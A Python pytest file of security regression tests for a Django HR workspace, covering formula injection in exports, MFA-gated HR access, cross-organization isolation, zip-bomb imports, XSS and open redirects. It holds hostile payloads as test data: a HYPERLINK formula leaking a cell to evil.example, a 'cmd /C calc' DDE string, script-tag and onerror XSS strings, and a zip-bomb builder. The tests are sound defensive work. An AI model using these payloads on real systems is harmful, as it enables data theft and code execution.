"""Attacks on the HR workspace (issue 11) that once got through, kept as regression tests: formulas in exported
spreadsheets, HR powers used without the second factor an organization requires, oversized .xlsx files; and a
few that held (other organization's ids in the filters, another organization's people in an import)."""

import csv
import io
import zipfile

import openpyxl
import pytest
import tablib
from allauth.mfa.models import Authenticator
from django.urls import reverse

from alliance.member_import import (
    ImportFileError,
    ParsedFile,
    export_members,
    plan_import,
    read_member_file,
)
from alliance.models import Department
from alliance.text import spreadsheet_safe, spreadsheet_unsafe

FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _set_name(membership, name):
    membership.user.name = name
    membership.user.save(update_fields=["name"])


# --- Formulas in exports -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", FORMULAS)
def test_an_hr_list_export_never_starts_a_cell_like_a_formula(login, hr, employee, payload):
    _set_name(employee, payload)
    response = login(hr).get(reverse("hr_list", args=["acme", "members"]), {"format": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + payload in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("payload", FORMULAS)
def test_the_member_csv_export_never_starts_a_cell_like_a_formula(login, hr, employee, payload):
    _set_name(employee, payload)
    employee.job_title = payload
    employee.save(update_fields=["job_title"])
    response = login(hr).get(reverse("member_export", args=["acme"]))
    cells = [cell for row in csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))) for cell in row]
    assert "'" + payload in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("payload", FORMULAS)
def test_the_member_xlsx_export_holds_no_formula_cell(login, hr, employee, payload):
    _set_name(employee, payload)
    response = login(hr).get(reverse("member_export", args=["acme"]), {"format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_guarded_export_imports_back_as_no_change(hr, employee, acme, file_format):
    employee.job_title = "-Lead (acting)"
    employee.save(update_fields=["job_title"])
    data = export_members(organization=acme, file_format=file_format)
    parsed = read_member_file(f"members.{file_format}", data)
    plan = plan_import(organization=acme, actor=hr, parsed=parsed)
    row = next(r for r in plan.rows if r.email == employee.user.email.lower())
    assert row.values["job_title"] == "-Lead (acting)"
    assert row.action == "unchanged"


@pytest.mark.parametrize(
    ("value", "shown"),
    [("=1", "'=1"), ("+81 3", "'+81 3"), ("a=b", "a=b"), ("", ""), (None, ""), ("'plain", "'plain")],
)
def test_spreadsheet_safe_and_back(value, shown):
    assert spreadsheet_safe(value) == shown
    assert spreadsheet_unsafe(shown) == ("" if value is None else value)


# --- Two-factor authentication required for HR ------------------------------------------------------------------


@pytest.fixture
def acme_requires_mfa(acme):
    acme.hr_requires_mfa = True
    acme.save(update_fields=["hr_requires_mfa"])
    return acme


def _person_url(member):
    return reverse("agreements:person", args=["acme", member.pk])


@pytest.mark.parametrize(
    ("requires", "has_mfa", "status"),
    [
        (True, False, 404),  # HR's reading of anyone's records waits for the second factor
        (True, True, 200),
        (False, False, 200),
    ],
)
def test_hr_powers_on_pages_everyone_opens_wait_for_the_required_second_factor(
    login, hr, employee, acme, requires, has_mfa, status
):
    assert employee.manager_id != hr.pk
    acme.hr_requires_mfa = requires
    acme.save(update_fields=["hr_requires_mfa"])
    if has_mfa:
        Authenticator.objects.create(user=hr.user, type=Authenticator.Type.TOTP, data={"secret": "JBSWY3DPEHPK3PXP"})
    assert login(hr).get(_person_url(employee)).status_code == status


def test_hr_without_the_second_factor_still_opens_their_own_pages(login, hr, acme_requires_mfa):
    client = login(hr)
    assert client.get(reverse("dashboard", args=["acme"])).status_code == 200
    assert client.get(_person_url(hr)).status_code == 200


@pytest.mark.parametrize("persona", ["manager", "employee"])
def test_the_withheld_powers_are_only_hrs(request, login, acme_requires_mfa, persona):
    member = request.getfixturevalue(persona)
    assert login(member).get(_person_url(member)).status_code == 200


@pytest.mark.parametrize("suffix", ["?format=csv", "?format=csv&page=2", ""])
def test_hr_lists_and_exports_wait_for_the_second_factor(login, hr, acme_requires_mfa, suffix):
    response = login(hr).get(reverse("hr_list", args=["acme", "members"]) + suffix)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("mfa_required"))


@pytest.mark.parametrize("url_name", ["member_export", "audit_export"])
def test_csv_exports_wait_for_the_second_factor(login, hr, acme_requires_mfa, url_name):
    response = login(hr).get(reverse(url_name, args=["acme"]))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("mfa_required"))


@pytest.mark.parametrize(
    "next_url", ["https://evil.example/", "//evil.example/", "/\\evil.example/", "javascript:alert(1)"]
)
def test_the_next_page_after_setup_never_leaves_the_site(login, hr, acme_requires_mfa, next_url):
    client = login(hr)
    client.get(reverse("mfa_required"), {"next": next_url})
    response = client.get(reverse("mfa_continue"))
    assert response.status_code in (302, 200)
    if response.status_code == 302:
        assert response["Location"].startswith("/") and not response["Location"].startswith(("//", "/\\"))


# --- The dashboard's filters and lists ----------------------------------------------------------------------------


@pytest.fixture
def globex_department(globex):
    return Department.objects.create(organization=globex, name="Globex secret lab")


@pytest.mark.parametrize("url_name", ["hr_dashboard", "hr_list"])
def test_filters_naming_another_organizations_rows_are_ignored(login, hr, outsider, globex_department, url_name):
    args = ["acme", "members"] if url_name == "hr_list" else ["acme"]
    query = {"department": globex_department.pk, "manager": outsider.pk}
    response = login(hr).get(reverse(url_name, args=args), query)
    assert response.status_code == 200
    body = response.content.decode()
    assert "Globex secret lab" not in body
    assert outsider.user.email not in body


@pytest.mark.parametrize(
    ("persona", "slug", "status"),
    [("hr", "globex", 404), ("outsider", "acme", 404), ("employee", "acme", 403), ("manager", "acme", 403)],
)
def test_the_hr_pages_are_hrs_of_their_own_organization(db, request, login, persona, slug, status):
    client = login(request.getfixturevalue(persona))
    for url in (
        reverse("hr_dashboard", args=[slug]),
        reverse("hr_list", args=[slug, "members"]) + "?format=csv",
        reverse("member_export", args=[slug]),
    ):
        assert client.get(url).status_code == status, url


# --- Hostile import files -----------------------------------------------------------------------------------------


def _zip_bomb() -> bytes:
    """A small .xlsx-looking zip whose sheet unzips to about 60 MB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", "<row/>" * 10_000_000)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("bomb.xlsx", _zip_bomb()),
        ("garbage.csv", bytes(range(256)) * 50),
        ("garbage.xlsx", b"PK\x03\x04" + b"\x00" * 500),
        ("empty.csv", b""),
        ("image.csv", b"\x89PNG\r\n\x1a\n" + b"\x00\xff" * 100),
    ],
)
def test_hostile_files_are_refused_in_plain_words(name, data):
    assert len(data) < 2 * 1024 * 1024
    with pytest.raises(ImportFileError):
        read_member_file(name, data)


def test_an_xlsx_of_the_most_rows_allowed_is_well_under_the_unzipped_limit():
    from alliance.member_import import HEADERS_JA, MAX_ROWS, MAX_XLSX_UNZIPPED_BYTES

    dataset = tablib.Dataset(headers=list(HEADERS_JA))
    for i in range(MAX_ROWS):
        dataset.append(
            [
                f"person{i}@acme.example",
                f"社員 {i}号",
                "シャイン イチゴウ",
                "社員",
                "boss@acme.example",
                "シニアソフトウェアエンジニア（バックエンド）",
                f"開発本部 第{i % 40}開発部",
                "2024-04-01",
            ]
        )
    data = dataset.export("xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        unzipped = sum(info.file_size for info in archive.infolist())
    assert unzipped * 3 < MAX_XLSX_UNZIPPED_BYTES
    assert len(read_member_file("members.xlsx", data).rows) == MAX_ROWS


def test_an_import_names_no_one_of_another_organization(hr, acme, outsider):
    outsider_email = outsider.user.email
    parsed = ParsedFile(
        "x.csv",
        ["email", "name", "manager_email"],
        [
            [2, {"email": outsider_email, "name": "Someone", "manager_email": ""}],
            [3, {"email": "new1@acme.example", "name": "New", "manager_email": outsider_email}],
        ],
    )
    plan = plan_import(organization=acme, actor=hr, parsed=parsed)
    invite, managed = plan.rows
    assert invite.action == "invite" and not invite.notes
    assert outsider.user.name not in str(invite.changes)
    assert managed.action == "error"
    assert outsider.user.name not in str(managed.errors)
    alone = ParsedFile("x.csv", ["email", "name", "manager_email"], [[2, {**parsed.rows[1][1]}]])
    (row,) = plan_import(organization=acme, actor=hr, parsed=alone).rows
    assert row.action == "error" and outsider.user.name not in str(row.errors)


@pytest.mark.parametrize("role", ["employee", "manager"])
def test_hr_cannot_change_their_own_role_by_import(hr, acme, role):
    parsed = ParsedFile("x.csv", ["email", "role"], [[2, {"email": hr.user.email, "role": role}]])
    plan = plan_import(organization=acme, actor=hr, parsed=parsed)
    assert plan.rows[0].action == "error"


# --- The Django admin with crafted addresses ------------------------------------------------------------------------


@pytest.fixture
def staff_client(hr, login):
    hr.user.is_staff = True
    hr.user.save(update_fields=["is_staff"])
    return login(hr, language="en")


def _globex_words(globex):
    from django_scopes import scopes_disabled

    from alliance.models import User

    with scopes_disabled():
        acme_users = User.objects.filter(memberships__organization__slug="acme")
        acme_names = set(acme_users.values_list("name", flat=True))
        people = User.objects.filter(memberships__organization=globex).exclude(pk__in=acme_users).distinct()
        words = {globex.name} | {u.email for u in people} | {u.name for u in people if u.name not in acme_names}
    return {word for word in words if word and len(word) > 2}


CRAFTED_QUERIES = [
    "organization__id__exact={globex}",
    "organization={globex}",
    "organization__in={globex}",
    "user__memberships__organization={globex}",
    "user__memberships__organization__slug=globex",
    "manager__organization={globex}",
    "_to_field=user",
    "_to_field=organization",
    "q=globex",
    "o=-1&organization__pk={globex}",
]


@pytest.mark.parametrize("query", CRAFTED_QUERIES)
def test_a_crafted_change_list_query_shows_nothing_of_globex(staff_client, acme, globex, query):
    response = staff_client.get("/admin/alliance/membership/?" + query.format(globex=globex.pk))
    assert response.status_code in (200, 302, 400)
    body = response.content.decode()
    assert not [word for word in _globex_words(globex) if word in body]
    if response.status_code == 200 and "cl" in response.context:
        assert {m.organization_id for m in response.context["cl"].result_list} <= {acme.pk}


@pytest.mark.parametrize(
    "query",
    [
        "app_label=alliance&model_name=membership&field_name=manager&term=",
        "app_label=alliance&model_name=invitation&field_name=manager&term=",
        "app_label=alliance&model_name=membership&field_name=user&term=",
        "app_label=alliance&model_name=membership&field_name=organization&term=",
        "app_label=alliance&model_name=auditentry&field_name=organization&term=",
        "app_label=auth&model_name=user&field_name=groups&term=",
    ],
)
def test_a_crafted_autocomplete_lists_nothing_of_globex(staff_client, globex, query):
    response = staff_client.get("/admin/autocomplete/?" + query)
    body = response.content.decode()
    assert not [word for word in _globex_words(globex) if word in body]


@pytest.mark.parametrize("page", ["change", "history", "delete"])
def test_a_globex_membership_page_is_out_of_reach(staff_client, globex, outsider, page):
    response = staff_client.get(f"/admin/alliance/membership/{outsider.pk}/{page}/")
    assert response.status_code in (302, 403, 404)
    assert outsider.user.email not in response.content.decode()


def test_a_globex_membership_cannot_be_changed_by_post(staff_client, outsider):
    response = staff_client.post(f"/admin/alliance/membership/{outsider.pk}/change/", {"job_title": "Pwned"})
    assert response.status_code in (302, 403, 404)
    outsider.refresh_from_db()
    assert outsider.job_title != "Pwned"


# --- Departments, settings and sessions ---------------------------------------------------------------------------


@pytest.mark.parametrize("url_name", ["department_edit", "department_move", "department_archive"])
@pytest.mark.parametrize("method", ["get", "post"])
def test_another_organizations_department_is_not_found(login, hr, globex_department, url_name, method):
    response = getattr(login(hr), method)(reverse(url_name, args=["acme", globex_department.pk]))
    assert response.status_code == 404
    globex_department.refresh_from_db()
    assert globex_department.archived_at is None


HOSTILE_NAME = '<img src=x onerror="alert(1)"><script>alert(2)</script>'


@pytest.mark.parametrize("url_name", ["hr_dashboard", "departments", "members"])
def test_names_with_html_are_shown_as_text(login, hr, acme, manager, url_name):
    department = Department.objects.create(organization=acme, name=HOSTILE_NAME[:100])
    manager.department = department
    manager.save(update_fields=["department"])
    _set_name(manager, HOSTILE_NAME)
    body = login(hr).get(reverse(url_name, args=["acme"])).content.decode()
    assert "<script>alert(2)" not in body and "<img src=x" not in body
    assert "&lt;script&gt;alert(2)" in body


@pytest.mark.parametrize(
    ("persona", "slug", "status"),
    [("employee", "acme", 403), ("manager", "acme", 403), ("outsider", "acme", 404), ("hr", "globex", 404)],
)
def test_settings_refuse_a_post_from_anyone_but_their_hr(db, request, login, persona, slug, status):
    from alliance.models import Organization

    before = Organization.objects.get(slug=slug).hr_requires_mfa
    client = login(request.getfixturevalue(persona))
    for url in (reverse("organization_settings", args=[slug]), reverse("member_import", args=[slug])):
        response = client.post(url, {"part": "security", "hr_requires_mfa": "" if before else "on"})
        assert response.status_code == status, url
    assert Organization.objects.get(slug=slug).hr_requires_mfa == before


@pytest.mark.parametrize("lines", [100, 5000, 5001, 10_000, 10_001, 349_000])
def test_a_csv_of_more_rows_than_allowed_is_refused_and_far_too_many_lines_before_parsing(lines):
    """Up to MAX_ROWS rows are read; more are refused with the limit in the message: by the row count after
    parsing, or, past twice the limit in lines, before the CSV reader builds any row."""
    from alliance.member_import import MAX_ROWS, ImportFileError, read_member_file

    # Short lines, as an attacker would send, so that even the longest file stays under the 2 MB limit.
    body = "e-mail\n" + "x\n" * lines
    if lines <= MAX_ROWS:
        assert len(read_member_file("members.csv", body.encode()).rows) == lines
        return
    with pytest.raises(ImportFileError) as error:
        read_member_file("members.csv", body.encode())
    assert f"{MAX_ROWS}" in str(error.value)
